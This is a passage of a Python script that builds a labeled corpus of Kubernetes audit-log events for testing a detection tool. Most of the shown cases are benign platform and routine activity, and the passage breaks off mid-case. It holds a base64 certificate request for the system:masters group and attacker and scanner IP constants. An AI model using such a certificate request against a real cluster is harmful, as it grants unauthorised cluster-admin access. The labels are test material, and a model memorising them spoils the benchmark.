"""Write the labeled corpus (`eks.jsonl`, `gke.jsonl`, `aks.jsonl`) beside this file.

    python tests/data/labeled/build_corpus.py

Each line is one labeled case: `{"id", "label": "attack"|"benign", "class", "technique",
"note", "record"}`. `record` is what the provider delivers, so the scan goes through falconet's
real decoders: an EKS CloudWatch Logs message (the audit Event itself), a GKE Cloud Logging
LogEntry whose protoPayload is an AuditLog, an AKS diagnostic-settings record whose
`properties.log` is the Event as a JSON string.

The cases were written from the providers' documentation of their identities, namespaces and
request shapes and from public attack write-ups, not from the bundled rules: they say what an
operator would call an attack or routine, whatever the rules answer. `tools/labeled_score.py`
scans them and prints detection and false-alarm rates per class.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent

# Two certificate requests made with `openssl req -new -subj ...` (EC P-256 keys thrown away),
# base64 of the PEM text as `kubectl` puts it in spec.request.
CSR_SYSTEM_MASTERS = (
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIbU1JR09BZ0VBTUN3eEZ6QVZCZ05WQkFvTURuTjVj"
    "M1JsYlRwdFlYTjBaWEp6TVJFd0R3WURWUVFEREFoaQpZV05yWkc5dmNqQlpNQk1HQnlxR1NNNDlBZ0VHQ0NxR1NNNDlB"
    "d0VIQTBJQUJKRFdJLzF0ZjZDYnJXSm1taHczCkd6a2dPM2xrTzJ2amQyR2ZpYm5heG05dWZEV0pFclZxbDJHT2lLTUJt"
    "ak9aT1dNVzJXNHYxUy9sOEdXY3Q5KzQKVWIrZ0FEQUtCZ2dxaGtqT1BRUURBZ05IQURCRUFpQlJmWUorMVl0M1FtR2Fs"
    "ZUkzZzMxaHRtT1hhWmN1cm55OQpSc0loLzhSZTBRSWdXY25sMm83RVRCeVlXSllHMUdaS3cwd3RNb2hEK294THlJRnhR"
    "VzV6VWFrPQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K"
)
CSR_DEVELOPERS = (
    "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIaE1JR0hBZ0VBTUNVeEV6QVJCZ05WQkFvTUNtUmxk"
    "bVZzYjNCbGNuTXhEakFNQmdOVkJBTU1CV0ZzYVdObApNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBEQVFjRFFnQUVz"
    "RnFpaThTcXRrbWZEckdUQldDTnRKVnNTQ3M1ClZpeklKMmNvZXNKcCtFN1FpQjZ3bUtrdnAxYUFwemc0ekRTZHBKODBO"
    "cUh4MFhoc3h3VjhOZ1hTb0tBQU1Bb0cKQ0NxR1NNNDlCQU1DQTBrQU1FWUNJUURydXJob081RlFnMkZ3Mk0wNWFRbVh4"
    "ZDhZU3BleTNyUHhNOVpjMWRkRgorUUloQVBQVWdKbmFjWk5WN3ZLUlNoTm12czQxYWZ2KzZ6YkV2MUpKLytpeDZTZ2gK"
    "LS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg=="
)

KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505"
GKE_PROJECT_NUMBER = "123456789012"
EKS_NODE = "system:node:ip-10-0-12-34.eu-west-1.compute.internal"
GKE_NODE = "system:node:gke-prod-default-pool-5f2c1a7b-q8zt"
AKS_NODE = "system:node:aks-nodepool1-31415926-vmss000002"
ECR = "602401143452.dkr.ecr.eu-west-1.amazonaws.com"
KCM_AKS = "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/e5bc5e7/"
KCM_AKS += "system:serviceaccount:kube-system:"
KCM_GKE = "kube-controller-manager/v1.30.5 (linux/amd64) kubernetes/74e8a9d/"
KCM_GKE += "system:serviceaccount:kube-system:"

_counter = [0]


def event(
    verb: str,
    resource: str | None,
    *,
    user: str,
    ns: str | None = None,
    name: str | None = None,
    sub: str | None = None,
    group: str = "",
    version: str = "v1",
    code: int | None = None,
    ip: str = "10.0.3.17",
    agent: str = KUBECTL,
    req: Any = None,
    resp: Any = None,
    uri: str | None = None,
    stage: str = "ResponseComplete",
    groups: list[str] | None = None,
    extra: dict[str, list[str]] | None = None,
) -> dict[str, Any]:
    """An audit.k8s.io/v1 Event as the API server writes it."""
    _counter[0] += 1
    n = _counter[0]
    if code is None:
        code = 101 if sub in ("exec", "attach", "portforward") else 201 if verb == "create" else 200
    ref: dict[str, Any] | None = None
    if resource:
        ref = {"resource": resource, "apiGroup": group, "apiVersion": version}
        if ns:
            ref["namespace"] = ns
        if name:
            ref["name"] = name
        if sub:
            ref["subresource"] = sub
    if uri is None:
        base = f"/apis/{group}/{version}" if group else f"/api/{version}"
        uri = base + (f"/namespaces/{ns}" if ns else "") + f"/{resource}"
        if name:
            uri += f"/{name}"
        if sub:
            uri += f"/{sub}"
    user_info: dict[str, Any] = {"username": user} if user else {}
    if user:
        user_info["groups"] = groups if groups is not None else _groups(user)
    if extra:
        user_info["extra"] = extra
    status: dict[str, Any] = {"metadata": {}, "code": code}
    if code >= 400:
        status.update(status="Failure", reason=_REASONS.get(code, "InternalError"))
    ts = f"2026-11-{3 + n // 200:02d}T{8 + (n // 60) % 12:02d}:{n % 60:02d}:07.{n:06d}Z"
    ev: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": f"6b0c9f3e-2d4a-4c1b-9e8f-{n:012x}",
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": user_info,
        "sourceIPs": [ip],
        "userAgent": agent,
    }
    if ref:
        ev["objectRef"] = ref
    ev["responseStatus"] = status
    if req is not None:
        ev["requestObject"] = req
    if resp is not None:
        ev["responseObject"] = resp
    elif req is not None and code < 300 and isinstance(req, dict) and verb == "create":
        obj = json.loads(json.dumps(req))
        meta = obj.setdefault("metadata", {})
        if "generateName" in meta and "name" not in meta:
            meta["name"] = meta["generateName"] + "x7k2p"
        meta.setdefault("namespace", ns) if ns else None
        ev["responseObject"] = obj
    ev["requestReceivedTimestamp"] = ts
    ev["stageTimestamp"] = ts
    decision = "forbid" if code == 403 else "allow"
    ev["annotations"] = {"authorization.k8s.io/decision": decision}
    if code != 401:
        ev["annotations"]["authorization.k8s.io/reason"] = (
            "" if decision == "forbid" else 'RBAC: allowed by ClusterRoleBinding "x"'
        )
    else:
        del ev["annotations"]["authorization.k8s.io/decision"]
    return ev


_REASONS = {401: "Unauthorized", 403: "Forbidden", 404: "NotFound", 409: "AlreadyExists"}


def _groups(user: str) -> list[str]:
    if user == "system:anonymous":
        return ["system:unauthenticated"]
    if user.startswith("system:serviceaccount:"):
        ns = user.split(":")[2]
        return ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]
    if user.startswith("system:node:"):
        return ["system:nodes", "system:authenticated"]
    return ["system:authenticated"]


# --- provider envelopes --------------------------------------------------------------------------


def eks(ev: dict[str, Any]) -> dict[str, Any]:
    """EKS writes the Event itself as the CloudWatch Logs message."""
    return ev


_RPC = {401: 16, 403: 7, 404: 5, 409: 6, 500: 13}


def gke(ev: dict[str, Any]) -> dict[str, Any]:
    """A Cloud Logging LogEntry as GKE writes it for this Event."""
    ref = ev.get("objectRef", {})
    group = ref.get("apiGroup") or "core"
    parts = [group, ref.get("apiVersion", "v1")]
    if "namespace" in ref:
        parts += ["namespaces", ref["namespace"]]
    parts.append(ref.get("resource", ""))
    if "name" in ref:
        parts.append(ref["name"])
    if "subresource" in ref:
        parts.append(ref["subresource"])
    method_parts = ["io.k8s", group, ref.get("apiVersion", "v1"), ref.get("resource", "")]
    if "subresource" in ref:
        method_parts.append(ref["subresource"])
    method_parts.append(ev["verb"])
    code = ev["responseStatus"]["code"]
    payload: dict[str, Any] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {"principalEmail": ev["user"].get("username", "")},
        "authorizationInfo": [
            {
                "granted": code != 403,
                "permission": ".".join(method_parts),
                "resource": "/".join(parts),
            }
        ],
        "methodName": ".".join(method_parts),
        "requestMetadata": {
            "callerIp": ev["sourceIPs"][0],
            "callerSuppliedUserAgent": ev["userAgent"],
        },
        "resourceName": "/".join(parts),
        "serviceName": "k8s.io",
    }
    if code >= 300 and code != 101:
        payload["status"] = {"code": _RPC.get(code, 13), "message": ev["responseStatus"]["reason"]}
    else:
        payload["status"] = {}
    if "requestObject" in ev:
        payload["request"] = ev["requestObject"]
    if "responseObject" in ev:
        payload["response"] = ev["responseObject"]
    return {
        "insertId": ev["auditID"],
        "labels": {k: v for k, v in ev["annotations"].items() if v},
        "logName": "projects/shop-prod/logs/cloudaudit.googleapis.com%2Factivity",
        "operation": {"first": True, "last": True, "id": ev["auditID"], "producer": "k8s.io"},
        "protoPayload": payload,
        "receiveTimestamp": ev["stageTimestamp"],
        "resource": {
            "type": "k8s_cluster",
            "labels": {
                "cluster_name": "shop-prod",
                "location": "europe-west1",
                "project_id": "shop-prod",
            },
        },
        "severity": "NOTICE",
        "timestamp": ev["stageTimestamp"],
    }


def gke_exec(ev: dict[str, Any], command: list[str], tty: bool = False) -> dict[str, Any]:
    """GKE logs exec options in the request (PodExecOptions), not in a query string."""
    ev = dict(ev)
    ev["requestObject"] = {
        "@type": "core.k8s.io/v1.PodExecOptions",
        "command": command,
        "container": "app",
        "stdin": True,
        "stdout": True,
        "tty": tty,
    }
    return gke(ev)


def aks(ev: dict[str, Any]) -> dict[str, Any]:
    """An AKS diagnostic-settings record (category kube-audit)."""
    return {
        "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
        "category": "kube-audit",
        "ccpNamespace": "65a1f0c2b7e4d50001a3c9d2",
        "resourceId": "/SUBSCRIPTIONS/0F4B2E1A-7C3D-4E5F-9A8B-1C2D3E4F5A6B/RESOURCEGROUPS/SHOP-RG"
        "/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/SHOP-AKS",
        "properties": {
            "log": json.dumps(ev, separators=(",", ":")) + "\n",
            "stream": "stdout",
            "pod": "kube-apiserver-7c9d8b6f5-k2xq9",
        },
        "time": ev["stageTimestamp"],
        "Cloud": "AzureCloud",
        "Environment": "prod",
    }


# --- object shapes -------------------------------------------------------------------------------


def pod(
    name: str | None,
    *,
    image: str = "ghcr.io/shop/web:1.4.2",
    sc: dict[str, Any] | None = None,
    pod_sc: dict[str, Any] | None = None,
    volumes: list[dict[str, Any]] | None = None,
    generate: str | None = None,
    **spec: Any,
) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "app", "image": image}
    if sc:
        container["securityContext"] = sc
    if volumes:
        container["volumeMounts"] = [
            {"name": v["name"], "mountPath": "/host" + str(i)} for i, v in enumerate(volumes)
        ]
    body: dict[str, Any] = {"containers": [container], **spec}
    if pod_sc:
        body["securityContext"] = pod_sc
    if volumes:
        body["volumes"] = volumes
    meta: dict[str, Any] = {"name": name} if name else {"generateName": generate}
    return {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": body}


def host_path(path: str, name: str = "host") -> dict[str, Any]:
    return {"name": name, "hostPath": {"path": path, "type": ""}}


def binding(kind: str, name: str, role: str, subjects: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "kind": kind,
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": subjects,
    }


def role(kind: str, name: str, rules: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "kind": kind,
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": name},
        "rules": rules,
    }


def rule(groups: list[str], resources: list[str], verbs: list[str]) -> dict[str, Any]:
    return {"apiGroups": groups, "resources": resources, "verbs": verbs}


def daemonset(name: str, image: str) -> dict[str, Any]:
    return {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": name},
        "spec": {
            "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name}},
                "spec": {"containers": [{"name": name, "image": image}]},
            },
        },
    }


def service(name: str, kind: str, ports: list[int], annotations: dict[str, str] | None = None):
    meta: dict[str, Any] = {"name": name}
    if annotations:
        meta["annotations"] = annotations
    return {
        "kind": "Service",
        "apiVersion": "v1",
        "metadata": meta,
        "spec": {
            "type": kind,
            "selector": {"app": name},
            "ports": [
                {"name": f"p{p}", "port": p, "targetPort": p, "protocol": "TCP"} for p in ports
            ],
        },
    }


def exec_uri(ns: str, pod_name: str, command: list[str], tty: bool = False) -> str:
    from urllib.parse import urlencode

    params = [("command", c) for c in command] + [("container", "app"), ("stdin", "true")]
    params += [("stdout", "true"), ("stderr", "true")]
    if tty:
        params.append(("tty", "true"))
    return f"/api/v1/namespaces/{ns}/pods/{pod_name}/exec?{urlencode(params)}"


def iam_extra(role_name: str, session: str) -> dict[str, list[str]]:
    return {
        "accessKeyId": ["ASIAZ3EXAMPLE7KQ2LPD"],
        "arn": [f"arn:aws:sts::111122223333:assumed-role/{role_name}/{session}"],
        "canonicalArn": [f"arn:aws:iam::111122223333:role/{role_name}"],
        "principalId": ["AROAZ3EXAMPLEQWERTY12"],
        "sessionName": [session],
    }


# --- the cases -----------------------------------------------------------------------------------

CASES: list[tuple[str, str, str, str, str, Any]] = []  # provider, label, class, technique, note, ev


def case(provider: str, label: str, cls: str, technique: str, note: str, ev: Any) -> None:
    CASES.append((provider, label, cls, technique, note, ev))


ALICE_EKS = "arn:aws:sts::111122223333:assumed-role/DevOps/alice"
ALICE = "alice@example.com"
AKS_USER = "bob@contoso.onmicrosoft.com"
ATTACKER_IP = "185.220.101.47"  # a Tor exit in public lists at the time of writing
SCANNER_IP = "45.155.205.233"


def build() -> None:
    # ---- benign: failed creations (409 AlreadyExists on re-apply, 500) ------------------------
    b = "benign"
    c = "fp-failed-creation"
    case(
        "eks",
        b,
        c,
        "",
        "kubectl apply re-run: privileged node agent pod already exists",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="monitoring",
            name="node-debugger",
            code=409,
            req=pod("node-debugger", sc={"privileged": True}),
            extra=iam_extra("DevOps", "alice"),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "NodePort service create that failed: already exists",
        event(
            "create",
            "services",
            user=ALICE,
            ns="shop",
            name="web",
            code=409,
            req=service("web", "NodePort", [80]),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "pod with a hostPath the API server failed to store (etcd timeout, 500)",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="logging",
            name="log-shipper",
            code=500,
            req=pod("log-shipper", volumes=[host_path("/var/log")]),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "cluster-admin binding re-applied by a bootstrap script: 409",
        event(
            "create",
            "clusterrolebindings",
            user=ALICE_EKS,
            name="platform-admins",
            group="rbac.authorization.k8s.io",
            code=409,
            req=binding(
                "ClusterRoleBinding",
                "platform-admins",
                "cluster-admin",
                [
                    {
                        "kind": "Group",
                        "name": "platform-admins",
                        "apiGroup": "rbac.authorization.k8s.io",
                    }
                ],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "wildcard role re-applied: 409",
        event(
            "create",
            "clusterroles",
            user=ALICE,
            name="crd-admin",
            group="rbac.authorization.k8s.io",
            code=409,
            req=role("ClusterRole", "crd-admin", [rule(["shop.example.com"], ["*"], ["*"])]),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "hostNetwork pod create rejected with 409 (re-apply)",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="ingress",
            name="edge-proxy",
            code=409,
            req=pod("edge-proxy", hostNetwork=True),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "pod in kube-public that already exists: 409",
        event(
            "create",
            "pods",
            user=ALICE_EKS,
            ns="kube-public",
            name="cluster-info-check",
            code=409,
            req=pod("cluster-info-check"),
        ),
    )

    # ---- benign: kube-system service accounts and provider identities doing their jobs ---------
    c = "fp-platform-identity"
    case(
        "gke",
        b,
        c,
        "",
        "kubelet mirror pod of the static kube-proxy (privileged, host paths)",
        event(
            "create",
            "pods",
            user=GKE_NODE,
            ns="kube-system",
            name="kube-proxy-gke-prod-default-pool-5f2c1a7b-q8zt",
            ip="10.128.0.14",
            agent="kubelet/v1.30.5 (linux/amd64) kubernetes/74e8a9d",
            req=pod(
                "kube-proxy-gke-prod-default-pool-5f2c1a7b-q8zt",
                image="gke.gcr.io/kube-proxy-amd64:v1.30.5-gke.1014001",
                sc={"privileged": True},
                hostNetwork=True,
                volumes=[
                    host_path("/etc/ssl/certs", "ssl"),
                    host_path("/run/xtables.lock", "x"),
                    host_path("/lib/modules", "lib-modules"),
                ],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "EKS add-on manager binds its own add-on admin (eks:addon-cluster-admin)",
        event(
            "create",
            "clusterrolebindings",
            user="eks:addon-manager",
            name="eks:addon-cluster-admin",
            group="rbac.authorization.k8s.io",
            ip="10.0.88.201",
            agent="eks-addon-manager/v0.0.0 (linux/amd64) kubernetes/$Format",
            req=binding(
                "ClusterRoleBinding",
                "eks:addon-cluster-admin",
                "cluster-admin",
                [
                    {
                        "kind": "User",
                        "name": "eks:addon-cluster-admin",
                        "apiGroup": "rbac.authorization.k8s.io",
                    }
                ],
            ),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "AKS resource provider creates the clusterAdmin binding",
        event(
            "create",
            "clusterrolebindings",
            user="aksService",
            name="aks-cluster-admin-binding",
            group="rbac.authorization.k8s.io",
            ip="172.31.14.2",
            agent="Go-http-client/2.0",
            req=binding(
                "ClusterRoleBinding",
                "aks-cluster-admin-binding",
                "cluster-admin",
                [{"kind": "User", "name": "clusterAdmin", "apiGroup": "rbac.authorization.k8s.io"}],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "a kube-system controller SA creates a role in kube-system (leader election)",
        event(
            "create",
            "roles",
            user="system:serviceaccount:kube-system:aws-load-balancer-controller",
            ns="kube-system",
            name="aws-load-balancer-controller-leader-election",
            group="rbac.authorization.k8s.io",
            ip="10.0.44.9",
            agent="controller/v0.0.0 (linux/amd64) kubernetes/$Format",
            req=role(
                "Role",
                "aws-load-balancer-controller-leader-election",
                [rule(["coordination.k8s.io"], ["leases"], ["create", "get", "update", "patch"])],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "GKE service agent binds cluster-admin for a managed component",
        event(
            "create",
            "clusterrolebindings",
            user=f"service-{GKE_PROJECT_NUMBER}@container-engine-robot.iam.gserviceaccount.com",
            name="gke-managed-component-admin",
            group="rbac.authorization.k8s.io",
            ip="35.187.16.20",
            agent="google-api-go-client/0.5",
            req=binding(
                "ClusterRoleBinding",
                "gke-managed-component-admin",
                "cluster-admin",
                [
                    {
                        "kind": "ServiceAccount",
                        "name": "component",
                        "namespace": "gke-managed-system",
                    }
                ],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "GKE Hub (Connect) service agent writes its impersonation role",
        event(
            "create",
            "clusterroles",
            user=f"service-{GKE_PROJECT_NUMBER}@gcp-sa-gkehub.iam.gserviceaccount.com",
            name="gke-connect-impersonation",
            group="rbac.authorization.k8s.io",
            ip="35.191.22.7",
            agent="google-api-go-client/0.5",
            req=role(
                "ClusterRole",
                "gke-connect-impersonation",
                [rule([""], ["users", "groups"], ["impersonate"])],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "GKE node service agent patches a system role",
        event(
            "patch",
            "clusterroles",
            user=f"service-{GKE_PROJECT_NUMBER}@gcp-sa-gkenode.iam.gserviceaccount.com",
            name="system:gke-node-agent",
            group="rbac.authorization.k8s.io",
            ip="35.191.22.9",
            agent="google-api-go-client/0.5",
            req={"rules": [rule([""], ["nodes"], ["get", "list"])]},
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "AKS DaemonSet (azure-cns) written by the AKS resource provider",
        event(
            "create",
            "daemonsets",
            user="aksService",
            ns="kube-system",
            name="azure-cns",
            group="apps",
            ip="172.31.14.2",
            agent="Go-http-client/2.0",
            req=daemonset("azure-cns", "mcr.microsoft.com/containernetworking/azure-cns:v1.6.5"),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "EKS add-on manager updates the aws-node DaemonSet",
        event(
            "patch",
            "daemonsets",
            user="eks:addon-manager",
            ns="kube-system",
            name="aws-node",
            group="apps",
            ip="10.0.88.201",
            agent="eks-addon-manager/v0.0.0 (linux/amd64) kubernetes/$Format",
            req={
                "spec": {
                    "template": {
                        "spec": {
                            "containers": [
                                {
                                    "name": "aws-node",
                                    "image": ECR + "/amazon-k8s-cni:v1.18.3",
                                }
                            ]
                        }
                    }
                }
            },
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "EKS add-on manager updates the coredns ConfigMap",
        event(
            "patch",
            "configmaps",
            user="eks:addon-manager",
            ns="kube-system",
            name="coredns",
            ip="10.0.88.201",
            agent="eks-addon-manager/v0.0.0 (linux/amd64) kubernetes/$Format",
            req={
                "data": {
                    "Corefile": ".:53 {\n    errors\n    health\n    kubernetes cluster.local\n}\n"
                }
            },
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "metrics-server (kube-system) calls through the AKS tunnel's public IP",
        event(
            "create",
            "subjectaccessreviews",
            user="system:serviceaccount:kube-system:metrics-server",
            group="authorization.k8s.io",
            ip="52.188.216.128",
            agent="metrics-server/v0.0.0 (linux/amd64) kubernetes/$Format",
            req={
                "kind": "SubjectAccessReview",
                "spec": {"user": "system:serviceaccount:kube-system:foo"},
            },
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "kubelet reads its pod's secret through the cluster's outbound public IP",
        event(
            "get",
            "secrets",
            user=AKS_NODE,
            ns="shop",
            name="web-tls",
            ip="20.71.44.18",
            agent="kubelet/v1.30.4 (linux/amd64) kubernetes/e5bc5e7",
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "GKE addon manager binds a controller role for a system user",
        event(
            "create",
            "clusterrolebindings",
            user="system:addon-manager",
            name="system:cluster-autoscaler-status",
            group="rbac.authorization.k8s.io",
            ip="10.128.0.2",
            agent="kubectl/v1.30.5 (linux/amd64) kubernetes/74e8a9d",
            req=binding(
                "ClusterRoleBinding",
                "system:cluster-autoscaler-status",
                "system:controller:clusterrole-aggregation-controller",
                [{"kind": "User", "name": "system:cluster-autoscaler"}],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "CSR cleaner deletes an expired node CSR",
        event(
            "delete",
            "certificatesigningrequests",
            user="system:kube-controller-manager",
            name="csr-8xk2p",
            group="certificates.k8s.io",
            ip="10.0.88.14",
            agent=KCM_AKS + "certificate-controller",
        ),
    )

    # ---- benign: provider-managed namespaces ---------------------------------------------------
    c = "fp-provider-namespace"
    dsc = "system:serviceaccount:kube-system:daemon-set-controller"
    kcm = KCM_GKE + "daemon-set-controller"
    case(
        "gke",
        b,
        c,
        "",
        "Filestore CSI node pod (gke-managed-filestorecsi) mounts kubelet dirs",
        event(
            "create",
            "pods",
            user=dsc,
            ns="gke-managed-filestorecsi",
            ip="10.128.0.2",
            agent=kcm,
            req=pod(
                None,
                generate="filestore-node-",
                image="gke.gcr.io/gcp-filestore-csi-driver:v1.6.10",
                sc={"privileged": True},
                volumes=[host_path("/var/lib/kubelet", "kubelet-dir"), host_path("/dev", "dev")],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "gke-system pod with hostNetwork (node-local component)",
        event(
            "create",
            "pods",
            user=dsc,
            ns="gke-system",
            ip="10.128.0.2",
            agent=kcm,
            req=pod(
                None,
                generate="netd-",
                image="gke.gcr.io/netd:v0.8.2-gke.6",
                hostNetwork=True,
                sc={"privileged": True},
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "Dataplane V2 observability pod in gke-managed-dpv2-observability",
        event(
            "create",
            "pods",
            user=dsc,
            ns="gke-managed-dpv2-observability",
            ip="10.128.0.2",
            agent=kcm,
            req=pod(
                None,
                generate="hubble-relay-",
                image="gke.gcr.io/hubble-relay:v1.14",
                volumes=[host_path("/var/run/cilium", "cilium-run")],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "Network Flow Monitor agent pod (amazon-network-flow-monitor), hostNetwork",
        event(
            "create",
            "pods",
            user=dsc,
            ns="amazon-network-flow-monitor",
            ip="10.0.88.14",
            agent=kcm,
            req=pod(
                None,
                generate="aws-network-flow-monitor-agent-",
                image="602401143452.dkr.ecr.eu-west-1.amazonaws.com/aws-network-flow-monitor-agent:v1.0.1",
                hostNetwork=True,
                sc={"privileged": True},
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "CloudWatch agent (amazon-cloudwatch) mounts host paths",
        event(
            "create",
            "pods",
            user=dsc,
            ns="amazon-cloudwatch",
            ip="10.0.88.14",
            agent=kcm,
            req=pod(
                None,
                generate="cloudwatch-agent-",
                image="public.ecr.aws/cloudwatch-agent/cloudwatch-agent:1.300",
                volumes=[
                    host_path("/var/run/containerd/containerd.sock", "sock"),
                    host_path("/", "rootfs"),
                ],
            ),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "AKS Istio add-on gateway pod (aks-istio-ingress) running as root",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:replicaset-controller",
            ns="aks-istio-ingress",
            ip="172.31.14.3",
            agent=KCM_AKS + "replicaset-controller",
            req=pod(
                None,
                generate="aks-istio-ingressgateway-external-",
                image="mcr.microsoft.com/oss/istio/proxyv2:1.22.3",
                sc={"runAsUser": 0, "allowPrivilegeEscalation": True},
            ),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "Azure Policy add-on (gatekeeper-system) pod",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:replicaset-controller",
            ns="gatekeeper-system",
            ip="172.31.14.3",
            agent="kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/e5bc5e7",
            req=pod(
                None,
                generate="gatekeeper-audit-",
                image="mcr.microsoft.com/oss/open-policy-agent/gatekeeper:v3.16.3",
                volumes=[host_path("/var/log", "logs")],
            ),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "flannel DaemonSet pod in kube-flannel (a kube-* namespace)",
        event(
            "create",
            "pods",
            user=dsc,
            ns="kube-flannel",
            ip="172.31.14.3",
            agent=kcm,
            req=pod(
                None,
                generate="kube-flannel-ds-",
                image="docker.io/flannel/flannel:v0.25.5",
                sc={"privileged": True},
                hostNetwork=True,
                volumes=[host_path("/run/flannel", "run"), host_path("/etc/cni/net.d", "cni")],
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "Managed Prometheus collector (gmp-system) reads kubelet metrics path",
        event(
            "create",
            "pods",
            user=dsc,
            ns="gmp-system",
            ip="10.128.0.2",
            agent=kcm,
            req=pod(
                None,
                generate="collector-",
                image="gke.gcr.io/prometheus-engine/prometheus:v2.45.3-gmp.9",
                volumes=[host_path("/var/lib/kubelet/pods", "pods")],
            ),
        ),
    )

    # ---- benign: ordinary work (nothing here should alert at Notice or above) ------------------
    c = "benign-routine"
    case(
        "eks",
        b,
        c,
        "",
        "developer deploys an app (replicaset-controller creates the pod)",
        event(
            "create",
            "pods",
            user="system:serviceaccount:kube-system:replicaset-controller",
            ns="shop",
            ip="10.0.88.14",
            agent="kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/e5bc5e7",
            req=pod(
                None,
                generate="web-7d4b9c8f6d-",
                sc={"runAsNonRoot": True, "runAsUser": 10001, "allowPrivilegeEscalation": False},
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "a developer reads a secret of their namespace with kubectl",
        event("get", "secrets", user=ALICE, ns="shop", name="web-db", ip="10.132.0.9"),
    )
    case(
        "aks",
        b,
        c,
        "",
        "namespace owner bound to view",
        event(
            "create",
            "rolebindings",
            user=AKS_USER,
            ns="shop",
            name="shop-viewers",
            group="rbac.authorization.k8s.io",
            req=binding(
                "RoleBinding",
                "shop-viewers",
                "view",
                [{"kind": "Group", "name": "7d1c3b2a-9f8e-4d6c-b5a4-3e2f1d0c9b8a"}],
            ),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "internal LoadBalancer for PostgreSQL (aws-load-balancer-scheme: internal)",
        event(
            "create",
            "services",
            user=ALICE_EKS,
            ns="data",
            name="postgres",
            req=service(
                "postgres",
                "LoadBalancer",
                [5432],
                {"service.beta.kubernetes.io/aws-load-balancer-scheme": "internal"},
            ),
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "public LoadBalancer for HTTPS",
        event(
            "create",
            "services",
            user=ALICE,
            ns="shop",
            name="web-lb",
            req=service("web-lb", "LoadBalancer", [443]),
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "an operator's exec that lists files",
        event(
            "create",
            "pods",
            user=AKS_USER,
            ns="shop",
            name="web-6c9f7-abcde",
            sub="exec",
            stage="ResponseStarted",
            uri=exec_uri("shop", "web-6c9f7-abcde", ["ls", "/app"]),
        ),
    )
    case(
        "eks",
        b,
        c,
        "",
        "a developer patches their own role (no wildcard)",
        event(
            "patch",
            "roles",
            user=ALICE_EKS,
            ns="shop",
            name="shop-deployer",
            group="rbac.authorization.k8s.io",
            req={"rules": [rule(["apps"], ["deployments"], ["get", "list", "update", "patch"])]},
        ),
    )
    case(
        "gke",
        b,
        c,
        "",
        "cert-manager looks up a secret it has not created yet (404)",
        event(
            "get",
            "secrets",
            user="system:serviceaccount:cert-manager:cert-manager",
            ns="shop",
            name="web-tls",
            code=404,
            ip="10.4.1.12",
            agent="cert-manager-certificates-issuing/v1.15.1 (linux/amd64) cert-manager/ef8f3c9",
        ),
    )
    case(
        "aks",
        b,
        c,
        "",
        "anonymous health probe from the node network",
